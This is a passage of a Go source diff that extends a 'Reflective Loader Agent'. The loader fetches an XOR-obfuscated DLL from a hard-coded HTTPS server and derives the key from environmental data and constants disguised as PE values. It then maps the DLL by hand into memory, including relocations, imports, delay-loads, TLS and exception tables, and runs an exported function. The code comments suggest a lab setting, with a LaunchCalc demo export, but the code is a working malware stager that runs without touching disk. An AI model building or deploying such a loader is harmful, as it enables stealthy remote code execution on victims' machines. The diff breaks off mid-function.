@@ -4,10 +4,10 @@
 package main
 
 import (
-	"bytes"
 	"crypto/tls"
 	"encoding/binary"
 	"errors"
+	"flag"
 	"fmt"
 	"io/ioutil"
 	"log"
@@ -19,95 +19,26 @@ import (
 	"unsafe"
 
 	"golang.org/x/sys/windows"
+
+	"reflective/pe"
 )
 
-// --- Existing PE Structures ---
-type IMAGE_DOS_HEADER struct {
-	Magic  uint16
-	_      [58]byte
-	Lfanew int32
-} //nolint:revive
-type IMAGE_FILE_HEADER struct {
-	Machine              uint16
-	NumberOfSections     uint16
-	TimeDateStamp        uint32
-	PointerToSymbolTable uint32
-	NumberOfSymbols      uint32
-	SizeOfOptionalHeader uint16
-	Characteristics      uint16
-}                                                               //nolint:revive
-type IMAGE_DATA_DIRECTORY struct{ VirtualAddress, Size uint32 } //nolint:revive
-type IMAGE_OPTIONAL_HEADER64 struct {
-	Magic                       uint16
-	MajorLinkerVersion          uint8
-	MinorLinkerVersion          uint8
-	SizeOfCode                  uint32
-	SizeOfInitializedData       uint32
-	SizeOfUninitializedData     uint32
-	AddressOfEntryPoint         uint32
-	BaseOfCode                  uint32
-	ImageBase                   uint64
-	SectionAlignment            uint32
-	FileAlignment               uint32
-	MajorOperatingSystemVersion uint16
-	MinorOperatingSystemVersion uint16
-	MajorImageVersion           uint16
-	MinorImageVersion           uint16
-	MajorSubsystemVersion       uint16
-	MinorSubsystemVersion       uint16
-	Win32VersionValue           uint32
-	SizeOfImage                 uint32
-	SizeOfHeaders               uint32
-	CheckSum                    uint32
-	Subsystem                   uint16
-	DllCharacteristics          uint16
-	SizeOfStackReserve          uint64
-	SizeOfStackCommit           uint64
-	SizeOfHeapReserve           uint64
-	SizeOfHeapCommit            uint64
-	LoaderFlags                 uint32
-	NumberOfRvaAndSizes         uint32
-	DataDirectory               [16]IMAGE_DATA_DIRECTORY
-} //nolint:revive
-type IMAGE_SECTION_HEADER struct {
-	Name                                                                                                     [8]byte
-	VirtualSize, VirtualAddress, SizeOfRawData, PointerToRawData, PointerToRelocations, PointerToLinenumbers uint32
-	NumberOfRelocations, NumberOfLinenumbers                                                                 uint16
-	Characteristics                                                                                          uint32
-}                                                                                                                 //nolint:revive
-type IMAGE_BASE_RELOCATION struct{ VirtualAddress, SizeOfBlock uint32 }                                           //nolint:revive
-type IMAGE_IMPORT_DESCRIPTOR struct{ OriginalFirstThunk, TimeDateStamp, ForwarderChain, Name, FirstThunk uint32 } //nolint:revive
-
-type IMAGE_EXPORT_DIRECTORY struct { //nolint:revive // Windows struct
-	Characteristics       uint32
-	TimeDateStamp         uint32
-	MajorVersion          uint16
-	MinorVersion          uint16
-	Name                  uint32 // RVA of the DLL name string
-	Base                  uint32 // Starting ordinal number
-	NumberOfFunctions     uint32 // Total number of exported functions (Size of EAT)
-	NumberOfNames         uint32 // Number of functions exported by name (Size of ENPT & EOT)
-	AddressOfFunctions    uint32 // RVA of the Export Address Table (EAT)
-	AddressOfNames        uint32 // RVA of the Export Name Pointer Table (ENPT)
-	AddressOfNameOrdinals uint32 // RVA of the Export Ordinal Table (EOT)
-}
+// --- PE Structures ---
+// Shared with the other labs through the reflective/pe package.
 
 // --- Constants ---
 const (
-	IMAGE_DIRECTORY_ENTRY_EXPORT    = 0
-	DLL_PROCESS_ATTACH              = 1
-	IMAGE_DOS_SIGNATURE             = 0x5A4D
-	IMAGE_NT_SIGNATURE              = 0x00004550
-	IMAGE_DIRECTORY_ENTRY_BASERELOC = 5
-	IMAGE_DIRECTORY_ENTRY_IMPORT    = 1
-	IMAGE_REL_BASED_DIR64           = 10
-	IMAGE_REL_BASED_ABSOLUTE        = 0
-	IMAGE_ORDINAL_FLAG64            = uintptr(1) << 63
-	MEM_COMMIT                      = 0x00001000
-	MEM_RESERVE                     = 0x00002000
-	MEM_RELEASE                     = 0x8000
-	PAGE_READWRITE                  = 0x04
-	PAGE_EXECUTE_READWRITE          = 0x40
+	DLL_PROCESS_DETACH     = 0
+	DLL_PROCESS_ATTACH     = 1
+	MEM_COMMIT             = 0x00001000
+	MEM_RESERVE            = 0x00002000
+	MEM_RELEASE            = 0x8000
+	PAGE_READWRITE         = 0x04
+	PAGE_EXECUTE_READWRITE = 0x40
+	HEAP_ZERO_MEMORY       = 0x00000008
+	// TLS setup
+	ThreadBasicInformation           = 0    // THREADINFOCLASS for NtQueryInformationThread
+	TEB_THREAD_LOCAL_STORAGE_POINTER = 0x58 // Offset of ThreadLocalStoragePointer in the x64 TEB
 	// Disguised PE constants used for shared secret generation
 	SECTION_ALIGN_REQUIRED    = 0x53616D70 // "Samp"
 	FILE_ALIGN_MINIMAL        = 0x6C652D6B // "le-k"
@@ -120,41 +51,26 @@ const (
 var (
 	kernel32DLL        = windows.NewLazySystemDLL("kernel32.dll")
 	procGetProcAddress = kernel32DLL.NewProc("GetProcAddress")
+	procGetProcessHeap = kernel32DLL.NewProc("GetProcessHeap")
+	procHeapAlloc      = kernel32DLL.NewProc("HeapAlloc")
+	procHeapSize       = kernel32DLL.NewProc("HeapSize")
+
+	procRtlAddFunctionTable    = kernel32DLL.NewProc("RtlAddFunctionTable")
+	procRtlDeleteFunctionTable = kernel32DLL.NewProc("RtlDeleteFunctionTable")
+
+	ntdllDLL                     = windows.NewLazySystemDLL("ntdll.dll")
+	procNtQueryInformationThread = ntdllDLL.NewProc("NtQueryInformationThread")
 )
 
-// --- Helper Functions ---
-func sectionNameToString(nameBytes [8]byte) string {
-	n := bytes.IndexByte(nameBytes[:], 0)
-	if n == -1 {
-		n = 8
-	}
-	return string(nameBytes[:n])
-}
-func machineTypeToString(machine uint16) string {
-	switch machine {
-	case 0x0:
-		return "Unknown"
-	case 0x14c:
-		return "x86 (I386)"
-	case 0x8664:
-		return "x64 (AMD64)"
-	case 0xaa64:
-		return "ARM64"
-	case 0x1c0:
-		return "ARM"
-	default:
-		return "Other"
-	}
-}
-func magicTypeToString(magic uint16) string {
-	switch magic {
-	case 0x10b:
-		return "PE32 (32-bit)"
-	case 0x20b:
-		return "PE32+ (64-bit)"
-	default:
-		return "Unknown/Invalid"
-	}
+// THREAD_BASIC_INFORMATION, returned by NtQueryInformationThread.
+type threadBasicInformation struct {
+	ExitStatus     int32
+	TebBaseAddress uintptr
+	UniqueProcess  uintptr
+	UniqueThread   uintptr
+	AffinityMask   uintptr
+	Priority       int32
+	BasePriority   int32
 }
 
 // --- Main Function ---
@@ -163,71 +79,75 @@ func main() {
 	if runtime.GOOS != "windows" {
 		log.Fatal("[-] This program must be run on Windows.")
 	}
+	// The TLS block is installed in this OS thread's TEB, so TLS callbacks,
+	// DllMain and the exported call must all run on the same thread.
+	runtime.LockOSThread()
 
 	fmt.Println("[+] Reflective Loader Agent (Network Download)")
 
 	// --- Configuration ---
 	serverURL := "https://192.168.2.123:8443/update"
+	localDLL := flag.String("dll", "", "map this local, unencrypted `file` instead of downloading the payload")
+	exportName := flag.String("export", "LaunchCalc", "exported `function` to call after DllMain")
+	registerExceptions := flag.Bool("register-exceptions", true, "register the image's exception directory so SEH and C++ exceptions inside it can be dispatched")
+	delayLoad := flag.String("delay-load", "lazy", "resolve delay-load imports `when`: lazy (on first call, like Windows) or eager (at load time)")
+	flag.Parse()
+	if *delayLoad != "lazy" && *delayLoad != "eager" {
+		log.Fatalf("[-] Unknown -delay-load mode '%s' (want lazy or eager)", *delayLoad)
+	}
+
+	var dllBytes []byte
+	var err error
+	if *localDLL != "" {
+		fmt.Printf("[+] Reading local DLL %s...\n", *localDLL)
+		dllBytes, err = os.ReadFile(*localDLL)
+		if err != nil {
+			log.Fatalf("[-] Failed to read DLL: %v", err)
+		}
+	} else {
+		fmt.Println("[+] Generating client ID from environment...")
+		clientID, err := getEnvironmentalID()
+		if err != nil {
+			log.Fatalf("[-] Failed to generate client ID: %v", err)
+		}
 
-	fmt.Println("[+] Generating client ID from environment...")
-	clientID, err := getEnvironmentalID()
-	if err != nil {
-		log.Fatalf("[-] Failed to generate client ID: %v", err)
-	}
-
-	// --- Download Payload ---
-	fmt.Println("[+] Downloading payload...")
-	obfuscatedBytes, timestampUsed, err := downloadPayload(serverURL, clientID)
-	if err != nil {
-		log.Fatalf("[-] Failed to download payload: %v", err)
-	}
-	// NOTE: obfuscatedBytes now holds the raw downloaded data
-
-	// --- Derive Key (using downloaded parameters) ---
-	fmt.Println("[+] Deriving decryption key...")
-	sharedSecret := generatePEValidationKey()
-	// IMPORTANT: Use the timestamp that was actually sent in the request!
-	finalKey := deriveKeyFromParams(timestampUsed, clientID, sharedSecret)
-	fmt.Printf("    Using Timestamp for Key: %s\n", timestampUsed)
-	fmt.Printf("    Using ClientID for Key: %s\n", clientID)
-	// fmt.Printf("    Shared Secret (generated): %s\n", sharedSecret) // Debug
-	// fmt.Printf("    Final Key (derived, Hex): %X\n", []byte(finalKey)) // Debug
-
-	// --- Decrypt using Rolling XOR and Derived Key ---
-	fmt.Println("[+] Decrypting downloaded content...")
-	dllBytes := xorEncryptDecrypt(obfuscatedBytes, []byte(finalKey)) // Decrypt
-	fmt.Printf("[+] Decryption complete. Resulting size: %d bytes.\n", len(dllBytes))
+		// --- Download Payload ---
+		fmt.Println("[+] Downloading payload...")
+		obfuscatedBytes, timestampUsed, err := downloadPayload(serverURL, clientID)
+		if err != nil {
+			log.Fatalf("[-] Failed to download payload: %v", err)
+		}
+		// NOTE: obfuscatedBytes now holds the raw downloaded data
 
-	reader := bytes.NewReader(dllBytes)
+		// --- Derive Key (using downloaded parameters) ---
+		fmt.Println("[+] Deriving decryption key...")
+		sharedSecret := generatePEValidationKey()
+		// IMPORTANT: Use the timestamp that was actually sent in the request!
+		finalKey := deriveKeyFromParams(timestampUsed, clientID, sharedSecret)
+		fmt.Printf("    Using Timestamp for Key: %s\n", timestampUsed)
+		fmt.Printf("    Using ClientID for Key: %s\n", clientID)
+		// fmt.Printf("    Shared Secret (generated): %s\n", sharedSecret) // Debug
+		// fmt.Printf("    Final Key (derived, Hex): %X\n", []byte(finalKey)) // Debug
 
-	var dosHeader IMAGE_DOS_HEADER
-	if err := binary.Read(reader, binary.LittleEndian, &dosHeader); err != nil {
-		log.Fatalf("[-] Failed to read DOS header: %v\n", err)
-	}
-	if dosHeader.Magic != IMAGE_DOS_SIGNATURE {
-		log.Fatalf("[-] Invalid DOS signature")
+		// --- Decrypt using Rolling XOR and Derived Key ---
+		fmt.Println("[+] Decrypting downloaded content...")
+		dllBytes = xorEncryptDecrypt(obfuscatedBytes, []byte(finalKey)) // Decrypt
+		fmt.Printf("[+] Decryption complete. Resulting size: %d bytes.\n", len(dllBytes))
 	}
-	if _, err := reader.Seek(int64(dosHeader.Lfanew), 0); err != nil {
-		log.Fatalf("[-] Failed to seek to NT Headers: %v\n", err)
-	}
-	var peSignature uint32
-	if err := binary.Read(reader, binary.LittleEndian, &peSignature); err != nil {
-		log.Fatalf("[-] Failed to read PE signature: %v\n", err)
-	}
-	if peSignature != IMAGE_NT_SIGNATURE {
-		log.Fatalf("[-] Invalid PE signature")
-	}
-	var fileHeader IMAGE_FILE_HEADER
-	if err := binary.Read(reader, binary.LittleEndian, &fileHeader); err != nil {
-		log.Fatalf("[-] Failed to read File Header: %v\n", err)
+
+	peFile, err := pe.Parse(dllBytes)
+	if err != nil {
+		log.Fatalf("[-] Failed to parse PE headers: %v\n", err)
 	}
-	var optionalHeader IMAGE_OPTIONAL_HEADER64
-	if err := binary.Read(reader, binary.LittleEndian, &optionalHeader); err != nil {
-		log.Fatalf("[-] Failed to read Optional Header: %v\n", err)
+	dosHeader := peFile.DosHeader
+	fileHeader := peFile.FileHeader
+	if !peFile.Is64() {
+		log.Fatalf("[-] This loader only maps PE32+ (64-bit) DLLs, got %s.\n", pe.MagicTypeToString(peFile.Magic()))
 	}
-	if optionalHeader.Magic != 0x20b {
-		log.Printf("[!] Warning: Optional Header Magic is not PE32+ (0x20b).")
+	if warning := peFile.CFGWarning(); warning != "" {
+		log.Printf("[!] Warning: %s.\n", warning)
 	}
+	optionalHeader := peFile.OptionalHeader64
 	fmt.Println("[+] Parsed PE Headers successfully.")
 	fmt.Printf("[+] Target ImageBase: 0x%X\n", optionalHeader.ImageBase)
 	fmt.Printf("[+] Target SizeOfImage: 0x%X (%d bytes)\n", optionalHeader.SizeOfImage, optionalHeader.SizeOfImage)
@@ -269,29 +189,29 @@ func main() {
 	// --- Step 4: Copy Sections into Allocated Memory ---
 	fmt.Println("[+] Copying sections...")
 	firstSectionHeaderAddr := allocBase + uintptr(dosHeader.Lfanew) + 4 + unsafe.Sizeof(fileHeader) + uintptr(fileHeader.SizeOfOptionalHeader) // Address of first section header IN allocBase
-	sectionHeaderSize := unsafe.Sizeof(IMAGE_SECTION_HEADER{})
+	sectionHeaderSize := unsafe.Sizeof(pe.IMAGE_SECTION_HEADER{})
 	numSections := fileHeader.NumberOfSections
 	for i := uint16(0); i < numSections; i++ {
 		currentSectionHeaderAddr := firstSectionHeaderAddr + uintptr(i)*sectionHeaderSize
-		sectionHeader := (*IMAGE_SECTION_HEADER)(unsafe.Pointer(currentSectionHeaderAddr))
-		// sectionName := sectionNameToString(sectionHeader.Name) // Less verbose logging
+		sectionHeader := (*pe.IMAGE_SECTION_HEADER)(unsafe.Pointer(currentSectionHeaderAddr))
+		// sectionName := pe.SectionNameToString(sectionHeader.Name) // Less verbose logging
 		if sectionHeader.SizeOfRawData == 0 {
 			continue
 		}
 		if uintptr(sectionHeader.PointerToRawData)+uintptr(sectionHeader.SizeOfRawData) > uintptr(len(dllBytes)) {
-			log.Printf("[!] Warning: Section %d ('%s') raw data exceeds file size. Skipping copy.", i, sectionNameToString(sectionHeader.Name))
+			log.Printf("[!] Warning: Section %d ('%s') raw data exceeds file size. Skipping copy.", i, pe.SectionNameToString(sectionHeader.Name))
 			continue
 		}
 		sourceAddr := dllBytesPtr + uintptr(sectionHeader.PointerToRawData)
 		if uintptr(sectionHeader.VirtualAddress)+uintptr(sectionHeader.SizeOfRawData) > allocSize {
-			log.Printf("[!] Warning: Section %d ('%s') virtual address/size exceeds allocated size. Skipping copy.", i, sectionNameToString(sectionHeader.Name))
+			log.Printf("[!] Warning: Section %d ('%s') virtual address/size exceeds allocated size. Skipping copy.", i, pe.SectionNameToString(sectionHeader.Name))
 			continue
 		}
 		destAddr := allocBase + uintptr(sectionHeader.VirtualAddress)
 		sizeToCopy := uintptr(sectionHeader.SizeOfRawData)
 		err = windows.WriteProcessMemory(windows.CurrentProcess(), destAddr, (*byte)(unsafe.Pointer(sourceAddr)), sizeToCopy, &bytesWritten)
 		if err != nil || bytesWritten != sizeToCopy {
-			log.Fatalf("    [-] Failed to copy section '%s': %v (Bytes written: %d)", sectionNameToString(sectionHeader.Name), err, bytesWritten)
+			log.Fatalf("    [-] Failed to copy section '%s': %v (Bytes written: %d)", pe.SectionNameToString(sectionHeader.Name), err, bytesWritten)
 		}
 	}
 	fmt.Println("[+] All sections copied.")
@@ -303,7 +223,7 @@ func main() {
 		fmt.Println("[+] Image loaded at preferred base. No relocations needed.")
 	} else {
 		fmt.Printf("[+] Image loaded at non-preferred base (Delta: 0x%X). Processing relocations...\n", delta)
-		relocDirEntry := optionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_BASERELOC]
+		relocDirEntry := optionalHeader.DataDirectory[pe.IMAGE_DIRECTORY_ENTRY_BASERELOC]
 		relocDirRVA := relocDirEntry.VirtualAddress
 		relocDirSize := relocDirEntry.Size
 		if relocDirRVA == 0 || relocDirSize == 0 {
@@ -315,20 +235,20 @@ func main() {
 			currentBlockAddr := relocTableBase
 			totalFixups := 0
 			for currentBlockAddr < relocTableEnd {
-				if currentBlockAddr < allocBase || currentBlockAddr+unsafe.Sizeof(IMAGE_BASE_RELOCATION{}) > allocBase+allocSize {
+				if currentBlockAddr < allocBase || currentBlockAddr+unsafe.Sizeof(pe.IMAGE_BASE_RELOCATION{}) > allocBase+allocSize {
 					log.Printf("[!] Error: Relocation block address 0x%X is outside allocated range. Stopping relocations.", currentBlockAddr)
 					break
 				}
-				blockHeader := (*IMAGE_BASE_RELOCATION)(unsafe.Pointer(currentBlockAddr))
-				if blockHeader.VirtualAddress == 0 || blockHeader.SizeOfBlock <= uint32(unsafe.Sizeof(IMAGE_BASE_RELOCATION{})) {
+				blockHeader := (*pe.IMAGE_BASE_RELOCATION)(unsafe.Pointer(currentBlockAddr))
+				if blockHeader.VirtualAddress == 0 || blockHeader.SizeOfBlock <= uint32(unsafe.Sizeof(pe.IMAGE_BASE_RELOCATION{})) {
 					break
 				}
 				if currentBlockAddr+uintptr(blockHeader.SizeOfBlock) > relocTableEnd {
 					log.Printf("[!] Error: Relocation block size (%d) at 0x%X exceeds directory bounds. Stopping relocations.", blockHeader.SizeOfBlock, currentBlockAddr)
 					break
 				}
-				numEntries := (blockHeader.SizeOfBlock - uint32(unsafe.Sizeof(IMAGE_BASE_RELOCATION{}))) / 2
-				entryPtr := currentBlockAddr + unsafe.Sizeof(IMAGE_BASE_RELOCATION{})
+				numEntries := (blockHeader.SizeOfBlock - uint32(unsafe.Sizeof(pe.IMAGE_BASE_RELOCATION{}))) / 2
+				entryPtr := currentBlockAddr + unsafe.Sizeof(pe.IMAGE_BASE_RELOCATION{})
 				for i := uint32(0); i < numEntries; i++ {
 					entryAddr := entryPtr + uintptr(i*2)
 					if entryAddr < allocBase || entryAddr+2 > allocBase+allocSize {
@@ -338,7 +258,7 @@ func main() {
 					entry := *(*uint16)(unsafe.Pointer(entryAddr))
 					relocType := entry >> 12
 					offset := entry & 0xFFF
-					if relocType == IMAGE_REL_BASED_DIR64 {
+					if relocType == pe.IMAGE_REL_BASED_DIR64 {
 						patchAddr := allocBase + uintptr(blockHeader.VirtualAddress) + uintptr(offset)
 						if patchAddr < allocBase || patchAddr+8 > allocBase+allocSize {
 							log.Printf("        [!] Error: Relocation patch address 0x%X is outside allocated range. Skipping fixup.", patchAddr)
@@ -347,7 +267,7 @@ func main() {
 						originalValuePtr := (*uint64)(unsafe.Pointer(patchAddr))
 						*originalValuePtr = uint64(int64(*originalValuePtr) + delta)
 						totalFixups++
-					} else if relocType != IMAGE_REL_BASED_ABSOLUTE {
+					} else if relocType != pe.IMAGE_REL_BASED_ABSOLUTE {
 						fmt.Printf("        [!] Warning: Skipping unhandled relocation type %d at offset 0x%X\n", relocType, offset)
 					}
 				}
@@ -358,15 +278,38 @@ func main() {
 	}
 	// --- End Step 5 ---
 
+	// --- Step 5.5: Register Exception Handlers ---
+	// x64 exception dispatch finds each frame's unwind data and language
+	// handler by looking its RIP up in the .pdata of the loaded modules. A
+	// manually mapped image isn't in the loader's module list, so until its
+	// table is registered every throw or __try inside it is unhandled and
+	// takes the whole process down. This must happen before TLS callbacks or
+	// DllMain run any of the image's code.
+	exceptionDirEntry := optionalHeader.DataDirectory[pe.IMAGE_DIRECTORY_ENTRY_EXCEPTION]
+	if !*registerExceptions {
+		fmt.Println("[*] Exception table registration disabled. Exceptions raised inside the DLL will crash the process.")
+	} else if exceptionDirEntry.VirtualAddress == 0 || exceptionDirEntry.Size == 0 {
+		fmt.Println("[*] No Exception Directory found. Skipping function table registration.")
+	} else {
+		functionTable, count, err := registerFunctionTable(exceptionDirEntry, allocBase, allocSize)
+		if err != nil {
+			log.Fatalf("[-] Failed to register exception table: %v\n", err)
+		}
+		fmt.Printf("[+] Registered %d RUNTIME_FUNCTION entries at 0x%X with RtlAddFunctionTable.\n", count, functionTable)
+		// Deferred before the TLS cleanup, so it runs after the DETACH
+		// callbacks and before the image memory is freed.
+		defer deleteFunctionTable(functionTable)
+	}
+
 	// --- Step 6: Process Import Address Table (IAT) ---
 	fmt.Println("[+] Processing Import Address Table (IAT)...")
-	importDirEntry := optionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_IMPORT]
+	importDirEntry := optionalHeader.DataDirectory[pe.IMAGE_DIRECTORY_ENTRY_IMPORT]
 	importDirRVA := importDirEntry.VirtualAddress
 	if importDirRVA == 0 {
 		fmt.Println("[*] No Import Directory found. Skipping IAT processing.")
 	} else {
 		fmt.Printf("[+] Import Directory found at RVA 0x%X\n", importDirRVA)
-		importDescSize := unsafe.Sizeof(IMAGE_IMPORT_DESCRIPTOR{})
+		importDescSize := unsafe.Sizeof(pe.IMAGE_IMPORT_DESCRIPTOR{})
 		importDescBase := allocBase + uintptr(importDirRVA)
 		importCount := 0
 
@@ -377,7 +320,7 @@ func main() {
 				break
 			}
 			// fmt.Printf("\n    DEBUG: Reading descriptor %d at address 0x%X\n", i, currentDescAddr) // Keep DEBUG optional
-			importDesc := (*IMAGE_IMPORT_DESCRIPTOR)(unsafe.Pointer(currentDescAddr))
+			importDesc := (*pe.IMAGE_IMPORT_DESCRIPTOR)(unsafe.Pointer(currentDescAddr))
 			// fmt.Printf("        DEBUG: Desc %d: OFT=0x%X, TS=0x%X, FC=0x%X, NameRVA=0x%X, FT=0x%X\n", i, importDesc.OriginalFirstThunk, importDesc.TimeDateStamp, importDesc.ForwarderChain, importDesc.Name, importDesc.FirstThunk) // Keep DEBUG optional
 
 			if importDesc.OriginalFirstThunk == 0 && importDesc.FirstThunk == 0 { /* fmt.Printf("    DEBUG: Null descriptor found at index %d. Stopping.\n", i); */
@@ -438,7 +381,7 @@ func main() {
 				var procErr error
 				importNameStr := ""
 
-				if iltEntry&IMAGE_ORDINAL_FLAG64 != 0 {
+				if iltEntry&pe.IMAGE_ORDINAL_FLAG64 != 0 {
 					ordinal := uint16(iltEntry & 0xFFFF)
 					importNameStr = fmt.Sprintf("Ordinal %d", ordinal)
 					// fmt.Printf("            DEBUG: Importing by %s\n", importNameStr)
@@ -492,6 +435,71 @@ func main() {
 	}
 	// --- *** End Step 6 *** ---
 
+	// --- Step 6.1: Delay-Load Imports ---
+	// The Windows loader leaves DataDirectory[13] alone. Each delay-load IAT
+	// slot points at a thunk that calls the image's own __delayLoadHelper2,
+	// which loads the DLL and patches the slot on first call. Step 5 has
+	// relocated those slots and Step 6 resolved the helper's LoadLibraryExA
+	// and GetProcAddress imports, so lazy resolution works as is. Eager mode
+	// resolves everything now instead, so no helper runs later.
+	delayImports, err := peFile.DelayImports()
+	if err != nil {
+		log.Fatalf("[-] Failed to parse delay-load import directory: %v\n", err)
+	}
+	if len(delayImports) == 0 {
+		fmt.Println("[*] No Delay-Load Import Directory found. Skipping.")
+	} else {
+		fmt.Printf("[+] Processing %d delay-load DLL(s) (%s)...\n", len(delayImports), *delayLoad)
+		for _, dll := range delayImports {
+			if *delayLoad == "eager" {
+				if err := resolveDelayImports(dll, allocBase, allocSize); err != nil {
+					log.Fatalf("    [-] FATAL: %v\n", err)
+				}
+				fmt.Printf("    [+] Resolved %d delay-load import(s) from '%s'.\n", len(dll.Functions), dll.Name)
+			} else if err := checkDelayThunks(dll, allocBase, allocSize); err != nil {
+				log.Printf("    [!] Warning: %v\n", err)
+			} else {
+				fmt.Printf("    [+] %d delay-load import(s) from '%s' left to resolve on first call.\n", len(dll.Functions), dll.Name)
+			}
+		}
+	}
+
+	// --- Step 6.5: Thread Local Storage ---
+	// The Windows loader gives every module with a TLS directory a slot in the
+	// thread's ThreadLocalStoragePointer array, copies the TLS template into
+	// it, and runs the TLS callbacks before DllMain. Code built with
+	// __declspec(thread) or thread_local reads gs:[0x58][_tls_index] directly,
+	// so a mapper that skips this crashes on the first thread-local access.
+	tlsDirEntry := optionalHeader.DataDirectory[pe.IMAGE_DIRECTORY_ENTRY_TLS]
+	if tlsDirEntry.VirtualAddress == 0 {
+		fmt.Println("[*] No TLS Directory found. Skipping TLS setup.")
+	} else {
+		fmt.Printf("[+] TLS Directory found at RVA 0x%X\n", tlsDirEntry.VirtualAddress)
+		tlsDirAddr := allocBase + uintptr(tlsDirEntry.VirtualAddress)
+		if tlsDirAddr+unsafe.Sizeof(pe.IMAGE_TLS_DIRECTORY64{}) > allocBase+allocSize {
+			log.Fatalf("[-] TLS Directory at 0x%X is outside allocated range.\n", tlsDirAddr)
+		}
+		// Step 5 already relocated the VAs in the directory and the callback array.
+		tlsDir := (*pe.IMAGE_TLS_DIRECTORY64)(unsafe.Pointer(tlsDirAddr))
+		slot, err := allocateTLS(tlsDir, allocBase, allocSize)
+		if err != nil {
+			log.Fatalf("[-] Failed to allocate TLS for the image: %v\n", err)
+		}
+		fmt.Printf("[+] TLS index %d -> block at 0x%X (0x%X template + 0x%X zero fill bytes)\n",
+			slot.index, slot.block, tlsDir.EndAddressOfRawData-tlsDir.StartAddressOfRawData, tlsDir.SizeOfZeroFill)
+		defer slot.free()
+
+		callbacks, err := tlsCallbacks(tlsDir, allocBase, allocSize)
+		if err != nil {
+			log.Fatalf("[-] Failed to read TLS callbacks: %v\n", err)
+		}
+		fmt.Printf("[+] Running %d TLS callback(s) with DLL_PROCESS_ATTACH...\n", len(callbacks))
+		runTLSCallbacks(callbacks, allocBase, DLL_PROCESS_ATTACH)
+		// Deferred calls run last-in first-out: the DETACH callbacks run before
+		// the TLS block and the image are freed.
+		defer runTLSCallbacks(callbacks, allocBase, DLL_PROCESS_DETACH)
+	}
+
 	// --- Step 7: Call DLL Entry Point (DllMain) ---
 	fmt.Println("[+] Locating and calling DLL Entry Point (DllMain)...")
 	dllEntryRVA := optionalHeader.AddressOfEntryPoint
@@ -529,13 +537,13 @@ func main() {
 	}
 
 	// --- Step 8: Find and Call Exported Function ---
-	targetFunctionName := "LaunchCalc" // The function we want to call
+	targetFunctionName := *exportName // The function we want to call
 	fmt.Printf("[+] Locating exported function: %s\n", targetFunctionName)
 
 	var targetFuncAddr uintptr = 0 // Initialize to 0 (not found)
 
 	// Find the Export Directory entry
-	exportDirEntry := optionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_EXPORT]
+	exportDirEntry := optionalHeader.DataDirectory[pe.IMAGE_DIRECTORY_ENTRY_EXPORT]
 	exportDirRVA := exportDirEntry.VirtualAddress
 	// exportDirSize := exportDirEntry.Size // Size might be useful for boundary checks
 
@@ -544,8 +552,8 @@ func main() {
 		// Depending on requirements, might be fatal or just skip this step
 	} else {
 		fmt.Printf("[+] Export Directory found at RVA 0x%X\n", exportDirRVA)
-		exportDirBase := allocBase + uintptr(exportDirRVA) // VA of IMAGE_EXPORT_DIRECTORY
-		exportDir := (*IMAGE_EXPORT_DIRECTORY)(unsafe.Pointer(exportDirBase))
+		exportDirBase := allocBase + uintptr(exportDirRVA) // VA of pe.IMAGE_EXPORT_DIRECTORY
+		exportDir := (*pe.IMAGE_EXPORT_DIRECTORY)(unsafe.Pointer(exportDirBase))
 
 		// Calculate the absolute addresses of the EAT, ENPT, and EOT
 		eatBase := allocBase + uintptr(exportDir.AddressOfFunctions)    // Export Address Table VA
@@ -596,14 +604,14 @@ func main() {
 			// --- Call the Exported Function ---
 			fmt.Printf("[+] Calling target function '%s' at 0x%X...\n", targetFunctionName, targetFuncAddr)
 
-			// LaunchCalc signature is: BOOL LaunchCalc() - takes 0 arguments
+			// The export is expected to look like LaunchCalc: BOOL LaunchCalc() - takes 0 arguments
 			ret, _, callErr := syscall.SyscallN(targetFuncAddr, 0, 0, 0, 0)
 
 			if callErr != 0 {
 				log.Printf("    [-] Syscall error during '%s' call: %v\n", targetFunctionName, callErr)
 				// Consider if this is fatal
 			} else {
-				// Check the boolean return value from LaunchCalc
+				// Check the boolean return value from the export
 				if ret != 0 { // Non-zero means TRUE
 					fmt.Printf("    [+] Exported function '%s' executed successfully (returned TRUE).\n", targetFunctionName)
 					fmt.Println("        ==> Check if Calculator launched! <==")
@@ -629,6 +637,206 @@ func main() {
 
 }
 
+// resolveDelayImports does up front what __delayLoadHelper2 would do on
+// each first call: it loads the DLL, patches every delay-load IAT slot with
+// the real function address, and stores the module handle where the helper
+// looks for it.
+func resolveDelayImports(dll pe.DelayImportedDLL, allocBase, allocSize uintptr) error {
+	ptrSize := unsafe.Sizeof(uintptr(0))
+	hModule, err := windows.LoadLibrary(dll.Name)
+	if err != nil {
+		return fmt.Errorf("failed to load delay-load library '%s': %w", dll.Name, err)
+	}
+	for _, fn := range dll.Functions {
+		var funcAddr uintptr
+		if fn.ByOrdinal {
+			funcAddr, _, err = procGetProcAddress.Call(uintptr(hModule), uintptr(fn.Ordinal))
+		} else {
+			funcAddr, err = windows.GetProcAddress(hModule, fn.Name)
+		}
+		if funcAddr == 0 {
+			return fmt.Errorf("failed to resolve delay-load import %s from %s: %v", fn, dll.Name, err)
+		}
+		slot := allocBase + uintptr(fn.ThunkRVA)
+		if slot < allocBase || slot+ptrSize > allocBase+allocSize {
+			return fmt.Errorf("delay-load IAT slot 0x%X for %s is outside the image", slot, fn)
+		}
+		*(*uintptr)(unsafe.Pointer(slot)) = funcAddr
+	}
+	if rva := dll.Descriptor.ModuleHandleRVA; rva != 0 {
+		handleAddr := allocBase + uintptr(rva)
+		if handleAddr+ptrSize > allocBase+allocSize {
+			return fmt.Errorf("delay-load module handle slot 0x%X is outside the image", handleAddr)
+		}
+		*(*uintptr)(unsafe.Pointer(handleAddr)) = uintptr(hModule)
+	}
+	return nil
+}
+
+// checkDelayThunks makes sure lazy resolution can work: every delay-load
+// IAT slot must still point at a helper thunk inside the mapped image.
+func checkDelayThunks(dll pe.DelayImportedDLL, allocBase, allocSize uintptr) error {
+	ptrSize := unsafe.Sizeof(uintptr(0))
+	for _, fn := range dll.Functions {
+		slot := allocBase + uintptr(fn.ThunkRVA)
+		if slot < allocBase || slot+ptrSize > allocBase+allocSize {
+			return fmt.Errorf("delay-load IAT slot 0x%X for %s is outside the image", slot, fn)
+		}
+		if thunk := *(*uintptr)(unsafe.Pointer(slot)); thunk < allocBase || thunk >= allocBase+allocSize {
+			return fmt.Errorf("delay-load IAT slot for %s from %s points outside the image (0x%X); use -delay-load=eager", fn, dll.Name, thunk)
